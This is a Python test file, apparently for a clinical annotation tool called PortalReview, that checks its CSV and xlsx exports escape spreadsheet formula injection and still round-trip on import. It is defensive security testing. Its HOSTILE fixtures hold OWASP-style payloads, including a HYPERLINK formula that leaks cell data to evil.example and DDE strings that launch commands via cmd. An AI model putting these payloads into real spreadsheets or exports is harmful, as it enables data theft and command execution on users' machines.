"""CSV injection: no CSV PortalReview writes holds a text a spreadsheet would run as a formula;
the data export still imports back to the same study; xlsx cells of such text are strings."""

from __future__ import annotations

import csv
import filecmp
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from io_support import full_study
from openpyxl import load_workbook

from portalreview.reports.xlsx_report import write_csv_report, write_xlsx_report
from portalreview.store.audit_verify import verify_export
from portalreview.store.csv_cells import (
    escape_formula,
    safe_row,
    safe_writer,
    unescape_formula,
)
from portalreview.store.exporters import export_project
from portalreview.store.exports import export_external
from portalreview.store.importers import import_files
from portalreview.store.importers.readers import read_parts
from portalreview.store.models import Suggestion
from portalreview.store.project import Project

# What a hostile patient message or answer may start with (OWASP's list), and their neighbours.
HOSTILE = {
    "f1": '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "f2": "+cmd|' /C calc'!A0",
    "f3": "-2+3+cmd|' /C calc'!A0",
    "f4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "f5": "\t=1+2",
    "f6": "\r=1+2",
    "f7": "'=1+2 (already quoted by the patient)",
    "f8": "-3.5",
    "f9": "'plain text with a leading quote",
}
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")


def test_escape_hand_worked_cases():
    assert escape_formula("=1+2") == "'=1+2"
    assert escape_formula("+1") == "'+1"
    assert escape_formula("-3.5") == "'-3.5"  # a text "-3.5"; numbers are not texts (below)
    assert escape_formula("@x") == "'@x"
    assert escape_formula("\t=1") == "'\t=1"
    assert escape_formula("\r=1") == "'\r=1"
    assert escape_formula("'=1") == "''=1"  # so that reading it back gives "'=1"
    assert escape_formula("''-1") == "'''-1"
    assert escape_formula("'quote") == "'quote"  # no formula behind the quote: as it is
    assert escape_formula("a=1") == "a=1"
    assert escape_formula(" =1") == " =1"
    assert escape_formula("") == ""
    assert unescape_formula("'=1+2") == "=1+2"
    assert unescape_formula("''=1") == "'=1"
    assert unescape_formula("'quote") == "'quote"
    assert unescape_formula("=1") == "=1"


@given(st.text(alphabet="'=+-@\t\r a1\"", max_size=8))
def test_escape_round_trips_and_never_starts_a_formula(text):
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped.startswith(STARTS)


def test_numbers_stay_numbers_and_texts_are_quoted():
    fh = io.StringIO()
    safe_writer(fh).writerow(safe_row([-3.5, "-3.5", -2, "=1", None, True, 0.25, "x"]))
    assert fh.getvalue() == '-3.5,"\'-3.5",-2,"\'=1","","true",0.25,"x"\r\n'


def _cells(folder: Path) -> dict[str, list[list[str]]]:
    """Every CSV file of a folder as a spreadsheet would split it into cells."""
    out = {}
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            out[path.name] = list(csv.reader(fh))
    return out


def _assert_no_formula(folder: Path) -> None:
    """Only a plain number (a negative one) may start with a formula character."""
    for name, rows in _cells(folder).items():
        for number, row in enumerate(rows, start=1):
            for cell in row:
                if cell.startswith(STARTS):
                    assert NUMBER.fullmatch(cell), f"{name}, row {number}: {cell!r}"


@pytest.fixture
def hostile(project):
    study = full_study(project)
    svc = study.service
    for case_id, message in HOSTILE.items():
        svc.add_case(case_id, message, {"problems": ["=1+1", "-chest pain"]})
    svc.save_answer(  # ben's urgency draft, with a hostile comment and flag note
        study.units["urgency"],
        {"more_urgent_case_id": study.case2},
        annotator_id=study.ben,
        flagged=True,
        flag_note="@SUM(1+1)",
        comment='=HYPERLINK("http://evil.example";"x")',
    )
    with project.write() as session:  # a negative number in a numeric column (the seed)
        session.add(
            Suggestion(
                unit_id=study.units["respond"],
                kind="respond",
                payload_json=json.dumps({"mode": "theme_guided", "parts": {"empathy": "-ok"}}),
                model_file="=tiny.gguf",
                model_sha256="cd" * 32,
                template_id="respond-v1",
                params_json="{}",
                seed=-3,
                seconds=0.5,
            )
        )
    return project, study


def test_data_export_csv_is_safe_and_imports_back(hostile, tmp_path):
    project, _ = hostile
    reference = tmp_path / "reference"
    export_project(project, "jsonl", reference)
    out = tmp_path / "csv"
    export_project(project, "csv", out)

    _assert_no_formula(out)
    cases = _cells(out)["cases.csv"]
    header = cases[0]
    messages = {row[0]: row[header.index("message")] for row in cases[1:]}
    for case_id, message in HOSTILE.items():
        starts = message.lstrip("'").startswith(STARTS)
        assert messages[case_id] == ("'" + message if starts else message), case_id
    raw = (out / "cases.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")"' in raw  # quoted cell
    suggestions = _cells(out)["suggestions.csv"]
    seed = suggestions[0].index("seed")
    assert suggestions[-1][seed] == "-3"  # a number: written bare, no quote before it
    assert ",-3," in (out / "suggestions.csv").read_text(encoding="utf-8-sig")

    assert verify_export(out).ok  # the audit chain still checks out from the CSV files

    fresh = Project.create(tmp_path / "copy.prproj", name="Test study")
    import_files(fresh, [out])
    again = tmp_path / "again"
    export_project(fresh, "jsonl", again)
    fresh.close()
    for table in ("cases", "answers", "suggestions", "responses", "units"):
        assert filecmp.cmp(reference / f"{table}.jsonl", again / f"{table}.jsonl", shallow=False)
    read_back = {
        json.loads(line)["case_id"]: json.loads(line)["message"]
        for line in (again / "cases.jsonl").open(encoding="utf-8")
    }
    assert {k: read_back[k] for k in HOSTILE} == HOSTILE


def test_report_csv_is_safe_and_keeps_numbers(hostile, tmp_path):
    project, study = hostile
    svc = study.service
    payload = {"mode": "theme_guided", "parts": {"empathy": "=1+2", "other": "-3.5"}, "notes": ""}
    svc.save_answer(study.units["respond"], payload, status="submitted", annotator_id=study.ben)
    out = tmp_path / "report"
    write_csv_report(project, out, n_resamples=0)

    _assert_no_formula(out)
    raw = "".join(p.read_text(encoding="utf-8-sig") for p in out.glob("raw_*.csv"))
    assert '"\'=1+2"' in raw and '"\'-3.5"' in raw  # answer texts: quoted, escaped
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            # Every unquoted cell is a number: this reader turns it into a float or fails.
            rows = list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))
        assert rows, path.name
    with (out / "summary_figures.csv").open(encoding="utf-8-sig", newline="") as fh:
        figures = list(csv.reader(fh, quoting=csv.QUOTE_NONNUMERIC))
    assert any(isinstance(c, float) for row in figures[1:] for c in row)


def _string_cells(path: Path, texts: set[str]) -> dict[str, str]:
    """The data type of every cell of the workbook whose value is one of ``texts``."""
    book = load_workbook(path)
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found[cell.value] = cell.data_type
    return found


def test_xlsx_exports_write_such_text_as_strings(hostile, tmp_path):
    project, study = hostile
    texts = {m for m in HOSTILE.values() if "\r" not in m}  # a CR is not kept by xlsx (XML)
    data = export_project(project, "xlsx", tmp_path / "data.xlsx")[0]
    found = _string_cells(data, texts | {"@SUM(1+1)"})
    assert set(found) == texts | {"@SUM(1+1)"}
    assert set(found.values()) == {"s"}

    svc = study.service
    parts = {"empathy": "=1+2", "other": "#N/A"}  # a formula, and an error code
    svc.save_answer(
        study.units["respond"],
        {"mode": "theme_guided", "parts": parts},
        status="submitted",
        annotator_id=study.ben,
    )
    report = write_xlsx_report(project, tmp_path / "report.xlsx", n_resamples=0)
    found = _string_cells(report, {"=1+2", "#N/A"})
    assert found == {"=1+2": "s", "#N/A": "s"}  # openpyxl alone would make "#N/A" an error


def test_merge_conflicts_csv_is_safe(tmp_path):
    from portalreview.store.merge import Conflict, write_conflicts

    conflict = Conflict(
        unit_id=4,
        unit_set="=urgent set",
        position=-1,
        kind="urgency",
        annotator="@ava",
        is_gold=False,
        master={"comment": "=1+2"},
        copy={"comment": "x"},
        base=None,
        master_updated_at="2026-01-01T00:00:00+00:00",
        copy_updated_at="2026-01-02T00:00:00+00:00",
        copy_file="+ava.prproj",
        copy_id="c",
    )
    out = write_conflicts([conflict], tmp_path / "conflicts.csv")
    _assert_no_formula(tmp_path)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        (row,) = csv.DictReader(fh)
    assert (row["unit_set"], row["annotator"], row["copy_file"]) == (
        "'=urgent set",
        "'@ava",
        "'+ava.prproj",
    )
    assert row["position"] == "-1" and json.loads(row["master"]) == {"comment": "=1+2"}


def test_label_studio_annotators_csv_is_safe_and_reads_back(hostile, tmp_path):
    """An annotator's name is any text (an EPPC import creates one from its column): the list
    of Label Studio users to create used to write ``=HYPERLINK(...)`` bare, a live formula."""
    project, study = hostile
    svc = study.service
    name = HOSTILE["f1"]
    person = svc.add_annotator(name)
    svc.assign(study.units["urgency"], person)
    answer = {"more_urgent_case_id": study.case1}
    svc.save_answer(study.units["urgency"], answer, status="submitted", annotator_id=person)
    out = tmp_path / "ls"
    export_external(project, "labelstudio", out)

    _assert_no_formula(out)
    emails = {row[0]: row[1] for row in _cells(out)["annotators.csv"][1:]}
    assert "'" + name in emails and "ava" in emails
    (part,) = read_parts(out / "annotators.csv")  # PortalReview's reader takes the quote off
    assert name in {record.values["annotator"] for record in part.records}
